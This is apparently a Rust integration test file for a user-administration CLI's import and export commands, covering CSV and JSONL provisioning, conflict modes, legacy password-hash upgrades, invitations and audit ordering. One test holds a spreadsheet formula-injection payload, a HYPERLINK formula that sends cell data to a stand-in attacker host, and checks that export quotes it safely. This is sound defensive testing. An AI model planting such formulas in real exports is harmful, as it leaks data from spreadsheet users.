//! `import` and `export`: all-or-nothing provisioning, conflict modes, hash formats, round trips.

use crate::util::*;

const ANN_PW: &str = "violet-Marble-92-harbor";

fn write(env: &Env, name: &str, text: &str) -> String {
    let path = env.path().join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

fn users(env: &Env) -> i64 {
    env.count("SELECT count(*) FROM users")
}

fn stored_hash(env: &Env, email: &str) -> String {
    env.text(
        "SELECT password_hash FROM users WHERE email_canonical = ?1",
        &[email.into()],
    )
}

#[test]
fn csv_import_with_every_column_and_hash_formats() {
    let env = Env::admin();
    env.run(&["roles", "create", "ops", "--permission", "deploy.*"], "")
        .ok();
    let bcrypt_y = bcrypt::hash("htpasswd-secret", 4)
        .unwrap()
        .replacen("$2b$", "$2y$", 1);
    let csv = format!(
        "email,first_name,last_name,attributes,roles,verified,password,password_hash,status\n\
         ann@example.com,Ann,Lee,\"{{\"\"team\"\":\"\"a\"\"}}\",ops,true,{ANN_PW},,active\n\
         bob@example.com,Bob,,,,true,,pbkdf2_sha256$10000$seasalt$/TKrcnYCTOVMlVYCKVo5Np6v35LbjEeAxkqYuc5XaBc=,\n\
         htp@example.com,,,,,true,,{bcrypt_y},\n\
         dis@example.com,Dis,,,,true,{ANN_PW}x,,disabled\n"
    );
    let file = write(&env, "users.csv", &csv);
    let run = env.run(&["--json", "import", &file, "--no-email"], "").ok();
    let summary = run.json();
    assert_eq!(summary["created"], 4);
    let ann = env
        .run(&["--json", "users", "show", "ann@example.com"], "")
        .ok()
        .json();
    assert_eq!(ann["roles"], serde_json::json!(["ops"]));
    assert_eq!(ann["attributes"]["team"], "a");
    assert_eq!(ann["email_verified"], true);
    env.run(
        &[
            "authenticate",
            "--email",
            "ann@example.com",
            "--password-stdin",
        ],
        &format!("{ANN_PW}\n"),
    )
    .ok();
    // Imported hashes work and are upgraded to Argon2id at the first successful login.
    assert!(stored_hash(&env, "bob@example.com").starts_with("pbkdf2_sha256$"));
    env.run(
        &[
            "authenticate",
            "--email",
            "bob@example.com",
            "--password-stdin",
        ],
        "wrong-lettuce\n",
    )
    .code(3);
    assert!(stored_hash(&env, "bob@example.com").starts_with("pbkdf2_sha256$"));
    env.run(
        &[
            "authenticate",
            "--email",
            "bob@example.com",
            "--password-stdin",
        ],
        "lettuce\n",
    )
    .ok();
    assert!(stored_hash(&env, "bob@example.com").starts_with("$argon2id$v=19$m=19456,t=2,p=1$"));
    // "lettuce" fails today's policy: it served that first login, and is now owed a change.
    env.run(
        &[
            "authenticate",
            "--email",
            "bob@example.com",
            "--password-stdin",
        ],
        "lettuce\n",
    )
    .code(8)
    .stderr_has("must change their password");
    env.run(
        &[
            "authenticate",
            "--email",
            "htp@example.com",
            "--password-stdin",
        ],
        "htpasswd-secret\n",
    )
    .ok();
    assert!(stored_hash(&env, "htp@example.com").starts_with("$argon2id$"));
    env.run(
        &[
            "authenticate",
            "--email",
            "dis@example.com",
            "--password-stdin",
        ],
        &format!("{ANN_PW}x\n"),
    )
    .code(8);
    let events = env.count("SELECT count(*) FROM audit_events WHERE event = 'user.imported'");
    assert_eq!(events, 4);
}

#[test]
fn jsonl_from_a_file_or_stdin() {
    let env = Env::admin();
    let jsonl = format!(
        "{{\"email\":\"ann@example.com\",\"roles\":[],\"verified\":true,\"password\":\"{ANN_PW}\"}}\n"
    );
    let file = write(&env, "users.jsonl", &jsonl);
    env.run(&["import", &file, "--no-email"], "").ok();
    let more = "{\"email\":\"bob@example.com\",\"first_name\":\"Bob\"}\n";
    env.run(&["import", "-", "--format", "jsonl", "--no-email"], more)
        .ok();
    assert_eq!(users(&env), 3);
}

#[test]
fn every_bad_row_is_reported_and_nothing_is_written() {
    let env = Env::admin();
    let csv = "email,roles,password,password_hash,status\n\
               not-an-email,,,,\n\
               a@example.com,nosuchrole,,,\n\
               b@example.com,,short,,\n\
               c@example.com,,,md5$abc$def,\n\
               d@example.com,,,,sleeping\n\
               e@example.com,,violet-Marble-92-harbor,pbkdf2_sha256$1$s$aGFzaA==,\n\
               ok@example.com,,,,\n\
               OK@example.com,,,,\n";
    let file = write(&env, "bad.csv", csv);
    let run = env.run(&["import", &file], "").code(2);
    for (line, what) in [
        (2, "invalid email"),
        (3, "unknown role"),
        (4, "password rejected"),
        (5, "bad password_hash"),
        (6, "sleeping"),
        (7, "not both"),
        (9, "already appears on line 8"),
    ] {
        assert!(
            run.stderr.contains(&format!("line {line}: ")) && run.stderr.contains(what),
            "line {line} {what}: {run:?}"
        );
    }
    assert_eq!(users(&env), 1);
    let unreadable = write(&env, "x.csv", "email,colour\na@b.com,red\n");
    env.run(&["import", &unreadable], "")
        .code(2)
        .stderr_has("column 2 of the header row is not a known column");
}

#[test]
// One scenario, read top to bottom: splitting it would hide the order it depends on.
#[allow(clippy::too_many_lines)]
fn conflict_modes_and_idempotent_updates() {
    let env = Env::admin();
    env.run(&["roles", "create", "ops", "--permission", "deploy.*"], "")
        .ok();
    let first = write(
        &env,
        "a.csv",
        "email,first_name,roles\nann@example.com,Ann,\nbob@example.com,Bob,ops\n",
    );
    env.run(&["import", &first, "--no-email"], "").ok();
    let second = write(
        &env,
        "b.csv",
        "email,first_name,roles\nann@example.com,Anne,ops\ncat@example.com,Cat,\n",
    );
    env.run(&["import", &second, "--no-email"], "")
        .code(6)
        .stderr_has("ann@example.com");
    assert_eq!(users(&env), 3);
    let dry = env
        .run(
            &[
                "--json",
                "import",
                &second,
                "--on-conflict",
                "update",
                "--dry-run",
                "--no-email",
            ],
            "",
        )
        .ok()
        .json();
    assert_eq!(
        (dry["created"].as_i64(), dry["updated"].as_i64()),
        (Some(1), Some(1))
    );
    assert_eq!(users(&env), 3);
    let skip = env
        .run(
            &[
                "--json",
                "import",
                &second,
                "--on-conflict",
                "skip",
                "--no-email",
            ],
            "",
        )
        .ok()
        .json();
    assert_eq!(
        (skip["created"].as_i64(), skip["skipped"].as_i64()),
        (Some(1), Some(1))
    );
    let ann = env
        .run(&["--json", "users", "show", "ann@example.com"], "")
        .ok()
        .json();
    assert_eq!(ann["first_name"], "Ann");
    let update = env
        .run(
            &[
                "--json",
                "import",
                &second,
                "--on-conflict",
                "update",
                "--no-email",
            ],
            "",
        )
        .ok()
        .json();
    assert_eq!(
        (update["updated"].as_i64(), update["unchanged"].as_i64()),
        (Some(1), Some(1))
    );
    let ann = env
        .run(&["--json", "users", "show", "ann@example.com"], "")
        .ok()
        .json();
    assert_eq!(ann["first_name"], "Anne");
    assert_eq!(ann["roles"], serde_json::json!(["ops"]));
    let again = env
        .run(
            &[
                "--json",
                "import",
                &second,
                "--on-conflict",
                "update",
                "--no-email",
            ],
            "",
        )
        .ok()
        .json();
    assert_eq!(
        (again["updated"].as_i64(), again["unchanged"].as_i64()),
        (Some(0), Some(2))
    );
}

#[test]
fn rows_without_a_password_are_invited() {
    let env = Env::admin();
    let file = write(
        &env,
        "invite.csv",
        "email\nann@example.com\nbob@example.com\n",
    );
    let run = env.run(&["--json", "import", &file], "").ok().json();
    assert_eq!(run["invitations_sent"].as_array().unwrap().len(), 2);
    let code = env.last_code("invite");
    let who = env
        .outbox_messages()
        .into_iter()
        .rev()
        .find(|(p, _)| p.to_string_lossy().contains("-invite-"))
        .unwrap()
        .1;
    let email = if who.contains("To: bob@example.com") {
        "bob@example.com"
    } else {
        "ann@example.com"
    };
    env.login(email, ANN_PW).code(3);
    env.run(
        &["reset", "--email", email, "--code-stdin"],
        &format!("{code}\n{ANN_PW}\n"),
    )
    .ok();
    env.login_as("invited", email, ANN_PW);
    // A disabled account gets no invitation.
    let disabled = write(
        &env,
        "disabled.csv",
        "email,status\ndis@example.com,disabled\n",
    );
    let run = env.run(&["--json", "import", &disabled], "").ok().json();
    assert_eq!(run["invitations_sent"].as_array().unwrap().len(), 0);
    let quiet = write(&env, "quiet.csv", "email\ncat@example.com\n");
    let before = env.outbox_messages().len();
    env.run(&["import", &quiet, "--no-email"], "").ok();
    assert_eq!(env.outbox_messages().len(), before);
}

#[test]
fn unsent_invitations_are_listed_with_the_resend_command() {
    let mut env = Env::admin();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    env.set_var("USERADM_SMTP_URL", format!("smtp://127.0.0.1:{port}"));
    let file = write(&env, "invite.csv", "email\nann@example.com\n");
    // Exit 9, as after `register`, so that a script notices; the report still lists the resend.
    let run = env
        .run(&["import", &file], "")
        .code(9)
        .stderr_has("1 code(s) could not be mailed; the accounts were written");
    assert!(
        run.stdout.contains("useradm reset --email ann@example.com"),
        "{run:?}"
    );
    assert_eq!(
        users(&env),
        2,
        "the accounts stay: the import committed before mailing"
    );
    // So does apply.
    let file = write(
        &env,
        "state.toml",
        "owner = \"hr\"\n[[users]]\nemail = \"bea@example.com\"\n",
    );
    let run = env.run(&["apply", &file], "").code(9);
    assert!(
        run.stdout
            .contains("resend: useradm reset --email bea@example.com"),
        "{run:?}"
    );
    assert_eq!(users(&env), 3);
    env.run(&["apply", &file, "--check"], "").ok();
}

#[test]
fn roles_in_an_import_obey_no_escalation() {
    let env = Env::admin();
    env.run(
        &[
            "roles",
            "create",
            "usermgr",
            "--permission",
            "users.manage",
            "--permission",
            "users.read",
        ],
        "",
    )
    .ok();
    env.run(
        &[
            "register",
            "--email",
            "mgr@example.com",
            "--role",
            "usermgr",
            "--verified",
            "--password-stdin",
        ],
        &format!("{ANN_PW}\n"),
    )
    .ok();
    env.login("mgr@example.com", ANN_PW).ok();
    let file = write(&env, "esc.csv", "email,roles\nmole@example.com,admin\n");
    env.run(&["import", &file, "--no-email"], "").code(5);
    assert_eq!(users(&env), 2);
}

#[test]
fn export_never_holds_secrets_and_round_trips() {
    let env = Env::admin();
    env.run(&["roles", "create", "ops", "--permission", "deploy.*"], "")
        .ok();
    let csv = format!(
        "email,first_name,last_name,attributes,roles,verified,password,status\n\
         ann@example.com,Ann,\"Lee, Jr\",\"{{\"\"k\"\":\"\"v\"\"}}\",ops,true,{ANN_PW},active\n\
         bob@example.com,Bob,,,,false,,disabled\n"
    );
    let file = write(&env, "src.csv", &csv);
    env.run(&["import", &file, "--no-email"], "").ok();
    for format in ["csv", "jsonl"] {
        let exported = env.run(&["export", "--format", format], "").ok().stdout;
        assert!(
            !exported.contains("argon2") && !exported.contains(ANN_PW),
            "{exported}"
        );
        // Into a fresh database that has the same roles.
        let fresh = Env::admin();
        fresh
            .run(&["roles", "create", "ops", "--permission", "deploy.*"], "")
            .ok();
        let path = write(&fresh, &format!("dump.{format}"), &exported);
        fresh
            .run(
                &["import", &path, "--on-conflict", "update", "--no-email"],
                "",
            )
            .ok();
        assert_eq!(
            fresh.run(&["export", "--format", format], "").ok().stdout,
            exported
        );
        // And back into the source: nothing changes.
        let back = write(&env, &format!("back.{format}"), &exported);
        let run = env
            .run(
                &[
                    "--json",
                    "import",
                    &back,
                    "--on-conflict",
                    "update",
                    "--no-email",
                ],
                "",
            )
            .ok()
            .json();
        assert_eq!(run["updated"], 0, "{run}");
    }
}

/// `useradm users list --json | head -1`: a reader that stops early ends the stream quietly,
/// exit 0, for each streamed output.
#[test]
fn a_closed_output_pipe_ends_the_stream_quietly() {
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;
    let env = Env::admin();
    let hash = stored_hash(&env, "admin@example.com");
    let mut csv = String::from("email,password_hash,verified\n");
    for i in 0..2000 {
        csv.push_str(&format!("user{i}@example.com,\"{hash}\",true\n"));
    }
    let path = write(&env, "many.csv", &csv);
    env.run(&["import", &path, "--no-email"], "").ok();
    for args in [
        &["users", "list", "--json"][..],
        &["export", "--format", "csv"],
        &["export", "--format", "jsonl"],
    ] {
        let mut child = env
            .command(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        // The reader is gone; the rest (over 100 KiB) cannot fit in the pipe.
        let out = child.wait_with_output().unwrap();
        assert!(!first.is_empty(), "{args:?}");
        assert_eq!(out.status.code(), Some(0), "{args:?}");
        assert_eq!(String::from_utf8_lossy(&out.stderr), "", "{args:?}");
    }
}

/// An update through `import` changes an account with the commands' own operations: the same
/// rules (the last administrator) and the same audit events, marked `"via": "import"`.
#[test]
fn import_updates_write_the_commands_events_via_import() {
    let env = Env::admin();
    env.run(&["roles", "create", "ops", "--permission", "deploy.*"], "")
        .ok();
    env.run(&["roles", "create", "qa", "--permission", "tests.*"], "")
        .ok();
    let first = write(
        &env,
        "first.csv",
        "email,first_name,roles\nann@example.com,Ann,qa\n",
    );
    env.run(&["import", &first, "--no-email"], "").ok();
    let second = write(
        &env,
        "second.csv",
        "email,first_name,roles,status,verified\nann@example.com,Annie,ops,disabled,true\n",
    );
    env.run(&["import", &second, "--on-conflict", "update"], "")
        .ok();
    let events = env
        .run(&["--json", "audit", "--email", "ann@example.com"], "")
        .ok()
        .json();
    let via_import: Vec<(String, serde_json::Value)> = events
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["detail"]["via"] == "import")
        .map(|e| {
            (
                e["event"].as_str().unwrap().to_string(),
                e["detail"].clone(),
            )
        })
        .collect();
    let names: Vec<&str> = via_import.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "user.updated",
            "role.revoked",
            "role.granted",
            "user.disabled",
            "email.verified"
        ],
        "{events:#}"
    );
    assert_eq!(via_import[1].1["role"], "qa");
    assert_eq!(via_import[2].1["role"], "ops");
    assert_eq!(via_import[0].1["first_name"], "Annie");
    assert!(
        events
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["event"] != "user.import_updated")
    );
    // The last administrator's rule holds through import as through `users disable`.
    let admin = write(
        &env,
        "admin.csv",
        &format!("email,status\n{ADMIN},disabled\n"),
    );
    env.run(&["import", &admin, "--on-conflict", "update"], "")
        .code(6)
        .stderr_has("last active administrator");
}

/// The caps on foreign hash costs are README's: PBKDF2 up to 10,000,000 iterations and bcrypt up
/// to cost 16 are kept; one more is refused with its line.
#[test]
fn foreign_hash_costs_are_accepted_up_to_the_documented_caps() {
    let env = Env::admin();
    // A real bcrypt hash with its cost field raised: the import only parses it.
    let bcrypt_at = |cost: &str| {
        bcrypt::hash("htpasswd-secret", 4)
            .unwrap()
            .replacen("$2b$04$", &format!("$2y${cost}$"), 1)
    };
    let pbkdf2 =
        |n: u32| format!("pbkdf2_sha256${n}$seasalt$/TKrcnYCTOVMlVYCKVo5Np6v35LbjEeAxkqYuc5XaBc=");
    let rows = [
        ("p-edge@example.com", pbkdf2(10_000_000)),
        ("p-over@example.com", pbkdf2(10_000_001)),
        ("b-edge@example.com", bcrypt_at("16")),
        ("b-over@example.com", bcrypt_at("17")),
    ];
    let csv: String = std::iter::once("email,password_hash\n".to_string())
        .chain(rows.iter().map(|(e, h)| format!("{e},{h}\n")))
        .collect();
    let file = write(&env, "caps.csv", &csv);
    let run = env.run(&["import", &file, "--no-email"], "").code(2);
    assert!(run.stderr.contains("2 bad row(s)"), "{run:?}");
    assert!(run.stderr.contains("line 3: bad password_hash"), "{run:?}");
    assert!(run.stderr.contains("line 5: bad password_hash"), "{run:?}");
    let good: String = std::iter::once("email,password_hash\n".to_string())
        .chain(
            [&rows[0], &rows[2]]
                .iter()
                .map(|(e, h)| format!("{e},{h}\n")),
        )
        .collect();
    let file = write(&env, "good.csv", &good);
    let run = env.run(&["--json", "import", &file, "--no-email"], "").ok();
    assert_eq!(run.json()["created"], 2);
}

/// A self-registered name that a spreadsheet would run (`=HYPERLINK(…)`) leaves a CSV export as
/// text (`'=…`), and a CSV import of that export gets the name back exactly; JSON Lines is as is.
#[test]
fn csv_export_quotes_formulas_and_import_unquotes_them() {
    let env = Env::admin();
    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    env.run(
        &[
            "register",
            "--email",
            ALICE,
            "--first-name",
            evil,
            "--last-name=-1+2",
            "--password-stdin",
        ],
        &format!("{ALICE_PW}\n"),
    )
    .ok();
    let csv = env.run(&["export", "--format", "csv"], "").ok().stdout;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let alice = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r.get(0) == Some(ALICE))
        .unwrap();
    assert_eq!(alice.get(1), Some(format!("'{evil}").as_str()));
    assert_eq!(alice.get(2), Some("'-1+2"));
    for cell in alice.iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    let jsonl = env.run(&["export", "--format", "jsonl"], "").ok().stdout;
    assert!(jsonl.contains("\"first_name\":\"=HYPERLINK"), "{jsonl}");
    let fresh = Env::admin();
    let path = write(&fresh, "dump.csv", &csv);
    fresh
        .run(
            &["import", &path, "--no-email", "--on-conflict", "skip"],
            "",
        )
        .ok();
    let shown = fresh
        .run(&["--json", "users", "show", ALICE], "")
        .ok()
        .json();
    assert_eq!(shown["first_name"], evil);
    assert_eq!(shown["last_name"], "-1+2");
}

/// `users list --legacy-hash` shows the accounts whose imported hash a login has not upgraded yet
/// (they check at their own cost, which may tell them apart): an administrator can see and
/// expire them.
#[test]
fn legacy_hashes_are_listed_until_a_login_upgrades_them() {
    let env = Env::admin();
    let csv = "email,verified,password_hash\n\
               old@example.com,true,pbkdf2_sha256$10000$seasalt$/TKrcnYCTOVMlVYCKVo5Np6v35LbjEeAxkqYuc5XaBc=\n";
    let file = write(&env, "legacy.csv", csv);
    env.run(&["import", &file, "--no-email"], "").ok();
    let listed = |env: &Env| -> Vec<String> {
        env.run(&["--json", "users", "list", "--legacy-hash"], "")
            .ok()
            .json()
            .as_array()
            .unwrap()
            .iter()
            .map(|u| u["email"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(listed(&env), ["old@example.com"]);
    env.run(
        &[
            "authenticate",
            "--email",
            "old@example.com",
            "--password-stdin",
        ],
        "lettuce\n",
    )
    .ok();
    assert!(listed(&env).is_empty());
}

/// A spreadsheet on Windows saves CRLF: every error still names its real line.
#[test]
fn crlf_files_report_the_real_line_numbers() {
    let env = Env::admin();
    let csv =
        "email,first_name\r\nok@example.com,A\r\nbad-email,B\r\nok2@example.com,C\r\nbad2,D\r\n";
    let run = env.run(&["import", "-", "--format", "csv"], csv).code(2);
    run.stderr_has("line 3: invalid email")
        .stderr_has("line 5: invalid email");
}

/// An unverified account with a password is mailed a verification code (it could not log in
/// without), an invitation goes to one without a password, and the summary says to whom and
/// where; a dry run lists the emails by what would happen to them.
#[test]
fn imported_accounts_are_mailed_the_code_they_need() {
    let env = Env::admin();
    env.register_verified(ALICE, ALICE_PW);
    let csv = format!(
        "email,password,verified\n\
         pw@example.com,{ALICE_PW},false\n\
         ok@example.com,{ALICE_PW},true\n\
         invited@example.com,,\n\
         {ALICE},,\n"
    );
    let dry = env
        .run(
            &[
                "--json",
                "import",
                "-",
                "--format",
                "csv",
                "--dry-run",
                "--on-conflict",
                "skip",
            ],
            &csv,
        )
        .ok()
        .json();
    assert_eq!(
        dry["plan"]["created"],
        serde_json::json!(["pw@example.com", "ok@example.com", "invited@example.com"])
    );
    assert_eq!(dry["plan"]["skipped"], serde_json::json!([ALICE]));
    let run = env
        .run(
            &["import", "-", "--format", "csv", "--on-conflict", "skip"],
            &csv,
        )
        .ok();
    let outbox = env.outbox().display().to_string();
    run.stdout_has(&format!(
        "Verification codes sent (1) through the outbox {outbox}: pw@example.com."
    ))
    .stdout_has(&format!(
        "Invitations sent (1) through the outbox {outbox}: invited@example.com."
    ));
    let code = env.last_code("verify");
    env.login("pw@example.com", ALICE_PW)
        .code(8)
        .stderr_has("verif");
    env.run(
        &["verify", "--email", "pw@example.com", "--code-stdin"],
        &format!("{code}\n"),
    )
    .ok();
    env.login("pw@example.com", ALICE_PW).ok();
}

/// An invitation reads as one: its own words, its time in words, and its acceptance welcomes
/// rather than reports a reset (nor is it told as a reset).
#[test]
fn an_invitation_has_its_own_words() {
    let env = Env::admin();
    env.run(
        &["import", "-", "--format", "csv"],
        "email\ninvited@example.com\n",
    )
    .ok();
    let (_, text) = env
        .outbox_messages()
        .into_iter()
        .find(|(p, _)| p.to_string_lossy().contains("-invite-"))
        .unwrap();
    let text = decode_qp(&text);
    assert!(text.contains("It lasts 3 days and works once"), "{text}");
    assert!(
        text.contains("If you did not expect an invitation"),
        "{text}"
    );
    assert!(!text.contains("did not ask for this"), "{text}");
    let code = env.last_code("invite");
    env.run(
        &["reset", "--email", "invited@example.com", "--code-stdin"],
        &format!("{code}\n{ALICE_PW}\n"),
    )
    .ok()
    .stdout_has("Welcome: the password of invited@example.com is set");
    assert_eq!(
        env.count("SELECT count(*) FROM audit_events WHERE event = 'invitation.accepted'"),
        1
    );
    env.wait_for_mail();
    assert!(
        !env.outbox_messages()
            .iter()
            .any(|(p, _)| p.to_string_lossy().contains("-security-")),
        "accepting an invitation is no password reset"
    );
}

/// Exports say `email_verified`, as `users list --json` does; `verified` is still read.
#[test]
fn exports_say_email_verified_and_imports_take_both_names() {
    let env = Env::admin();
    let csv = env.run(&["export"], "").ok().stdout;
    assert!(
        csv.starts_with("email,first_name,last_name,attributes,roles,email_verified,status"),
        "{csv}"
    );
    env.run(
        &["import", "-", "--format", "jsonl", "--no-email"],
        "{\"email\":\"a@example.com\",\"verified\":true}\n{\"email\":\"b@example.com\",\"email_verified\":true}\n",
    )
    .ok();
    assert_eq!(
        env.count("SELECT count(*) FROM users WHERE email_verified_at IS NOT NULL AND email LIKE '_@example.com'"),
        2
    );
}

/// An import larger than one batch is written in several, prepared beside the writing: the
/// accounts, their roles, their codes and their events land in the file's order, with an update
/// between them in its place, and the chain verifies.
#[test]
fn an_import_of_many_batches_keeps_the_files_order() {
    let env = Env::admin();
    env.run(&["roles", "create", "qa", "--permission", "tests.*"], "")
        .ok();
    let ann = write(&env, "ann.csv", "email\nann@example.com\n");
    env.run(&["import", &ann, "--no-email"], "").ok();
    let phc = stored_hash(&env, ADMIN);
    let rows = 12_000;
    let middle = 6_000;
    let invited = [100, 5_100, 10_100, rows - 1];
    let mut csv = String::from("email,first_name,password_hash,roles,verified\n");
    let mut created = Vec::new();
    for k in 0..rows {
        if k == middle {
            csv.push_str("ann@example.com,Annie,,,\n");
            continue;
        }
        let email = format!("many{k}@example.com");
        // The others have a password and a verified address: no code to hash.
        let (hash, verified) = match invited.contains(&k) {
            true => ("", ""),
            false => (phc.as_str(), "true"),
        };
        let role = if k % 3 == 0 { "qa" } else { "" };
        csv.push_str(&format!("{email},,\"{hash}\",{role},{verified}\n"));
        created.push(email);
    }
    let file = write(&env, "many.csv", &csv);
    env.run(&["import", &file, "--on-conflict", "update"], "")
        .ok()
        .stdout_has(&format!("{} created, 1 updated", rows - 1));
    let texts =
        |sql: &str| -> Vec<String> { env.rows(sql, &[]).iter().map(|r| r[0].text()).collect() };
    let ann: i64 = env.int(
        "SELECT id FROM users WHERE email_canonical = ?1",
        &["ann@example.com".into()],
    );
    // (Compared without printing 12,000 addresses.)
    let accounts = texts(&format!(
        "SELECT email FROM users WHERE id > {ann} ORDER BY id"
    ));
    assert!(
        accounts == created,
        "{} accounts out of order",
        accounts.len()
    );
    let events = texts(
        "SELECT target FROM audit_events
          WHERE event = 'user.imported' AND target <> 'ann@example.com' ORDER BY id",
    );
    assert!(events == created, "{} events out of order", events.len());
    // The update is chained between the rows around it.
    let event_of = |email: &str| {
        env.int(
            "SELECT max(id) FROM audit_events WHERE target = ?1 AND event IN ('user.imported', 'user.updated')",
            &[email.into()],
        )
    };
    let updated = event_of("ann@example.com");
    assert!(event_of(&format!("many{}@example.com", middle - 1)) < updated);
    assert!(updated < event_of(&format!("many{}@example.com", middle + 1)));
    assert_eq!(
        env.count(
            "SELECT count(*) FROM user_roles ur JOIN roles r ON r.id = ur.role_id WHERE r.name = 'qa'"
        ),
        (0..rows).filter(|k| k % 3 == 0 && *k != middle).count() as i64
    );
    let mut codes = texts(
        "SELECT u.email FROM one_time_codes c JOIN users u ON u.id = c.user_id
          WHERE c.purpose = 'invite' ORDER BY u.id",
    );
    codes.retain(|e| e != "ann@example.com");
    let want: Vec<String> = invited
        .iter()
        .map(|k| format!("many{k}@example.com"))
        .collect();
    assert_eq!(codes, want);
    env.run(&["audit", "verify"], "").ok();
}

/// A write that fails in a later batch, while the next one is being prepared, ends the import
/// (no wait) with nothing of it written.
#[test]
fn an_import_failing_in_a_later_batch_writes_nothing() {
    let env = Env::admin();
    let phc = stored_hash(&env, ADMIN);
    let failing = "many11000@example.com";
    // The store refuses one account of the third batch.
    if env.on_server() {
        env.batch(&format!(
            "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS
               $$ BEGIN RAISE EXCEPTION 'refused'; END $$;
             CREATE TRIGGER refuse BEFORE INSERT ON users FOR EACH ROW
               WHEN (NEW.email = '{failing}') EXECUTE FUNCTION refuse();"
        ));
    } else {
        env.batch(&format!(
            "CREATE TRIGGER refuse BEFORE INSERT ON users WHEN NEW.email = '{failing}'
               BEGIN SELECT RAISE(ABORT, 'refused'); END;"
        ));
    }
    let before = (users(&env), env.count("SELECT count(*) FROM audit_events"));
    let mut csv = String::from("email,password_hash,verified\n");
    for k in 0..12_000 {
        csv.push_str(&format!("many{k}@example.com,\"{phc}\",true\n"));
    }
    let file = write(&env, "many.csv", &csv);
    let run = env.run(&["import", &file, "--no-email"], "");
    assert_ne!(run.code, 0, "{run:?}");
    assert!(run.stderr.contains("refused"), "{run:?}");
    assert_eq!(
        (users(&env), env.count("SELECT count(*) FROM audit_events")),
        before
    );
    env.run(&["audit", "verify"], "").ok();
}
